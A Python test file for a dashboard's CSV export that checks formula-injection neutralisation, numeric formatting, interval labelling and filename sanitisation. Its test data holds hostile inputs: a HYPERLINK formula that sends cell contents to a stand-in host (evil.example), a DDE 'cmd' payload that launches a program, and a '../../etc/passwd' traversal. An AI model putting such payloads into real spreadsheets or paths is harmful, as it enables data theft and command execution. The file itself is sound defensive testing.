"""CSV exports: formula injection is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from analytics.vocabulary import versus
from dashboard.charts import EXPORT_COLUMNS, export_rows
from dashboard.exports import FORMULA_PREFIXES, neutralise_cell, rows_to_csv, safe_filename
from tests.unit.dashboard.values import value


def test_each_formula_prefix_is_neutralised() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise_cell('=HYPERLINK("http://evil.example","x")') == (
        '\'=HYPERLINK("http://evil.example","x")'
    )
    assert neutralise_cell("Atlas") == "Atlas"
    assert neutralise_cell(None) == ""


def test_numbers_stay_numbers() -> None:
    assert neutralise_cell(-0.25) == "-0.25"
    assert neutralise_cell(12) == "12"
    assert neutralise_cell(float("nan")) == ""
    assert neutralise_cell(True) == "true"


@given(st.text())
def test_no_text_cell_starts_like_a_formula(text: str) -> None:
    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)


def test_exported_csv_with_hyperlink_label_comes_out_neutralised() -> None:
    label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    values = [value("mean", 1.2, 1.1, 1.3, group={"team": label}),
              value("mean", -0.5, -0.7, -0.3, group={"team": "+cmd|' /C calc'!A0"}),
              value("difference", 0.1, -0.2, 0.4,
                    group={"team": "@SUM(1)", versus("team"): "-2+3"})]
    text = rows_to_csv(EXPORT_COLUMNS, export_rows(values))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["group"] for r in rows] == ["'" + label, "'+cmd|' /C calc'!A0",
                                          "'@SUM(1) vs -2+3"]
    assert rows[1]["value"] == "-0.5" and rows[1]["lower_95"] == "-0.7"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_export_rows_are_exactly_the_published_values() -> None:
    v = value("mean", 1.0, 0.9, 1.1, column="efficiency", group={"team": "Atlas"})
    (row,) = export_rows([v])
    assert row == {
        "release": "comparison:efficiency:team", "analysis": "comparison", "metric": "mean",
        "column": "efficiency", "group": "Atlas", "value": 1.0, "lower_95": 0.9,
        "upper_95": 1.1, "interval": "95% interval of the noise", "rough_lower": None,
        "rough_upper": None, "noise_scale": 0.05, "noise_impact": "noise: medium",
        "epsilon": 0.2, "published_at": datetime(2025, 1, 2, tzinfo=UTC).isoformat(),
        "note": "",
    }


def test_a_quantile_exports_its_rough_range_never_as_a_95_interval() -> None:
    q = value("quantile_0.5", 12.0, 10.9, 13.2, column="days", analysis="distribution",
              release="distribution:days")
    (row,) = export_rows([q])
    assert row["lower_95"] is None and row["upper_95"] is None and row["noise_scale"] is None
    assert (row["rough_lower"], row["rough_upper"]) == (10.9, 13.2)
    assert "not a 95% interval" in row["interval"] and row["noise_impact"] == "rough guide"


def test_sentences_are_exported_as_insight_rows() -> None:
    share = value("clamped_high_share", 0.13, 0.12, 0.14, column="salary", analysis="quality",
                  release="quality")
    warning = "About 13% of salary values were above the contract's upper bound of 200"
    text = rows_to_csv(EXPORT_COLUMNS, export_rows([share], [(share, warning)]))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["metric"] for r in rows] == ["clamped_high_share", "insight"]
    assert rows[0]["noise_impact"] == "noise: low" and rows[0]["value"] == "0.13"
    assert rows[1]["note"] == warning and rows[1]["release"] == "quality"
    assert rows[1]["value"] == "" and rows[1]["lower_95"] == ""


def test_safe_filename() -> None:
    assert safe_filename("employees", "comparison:efficiency:team") == (
        "employees-comparison_efficiency_team.csv"
    )
    assert "/" not in safe_filename("../../etc", "passwd")
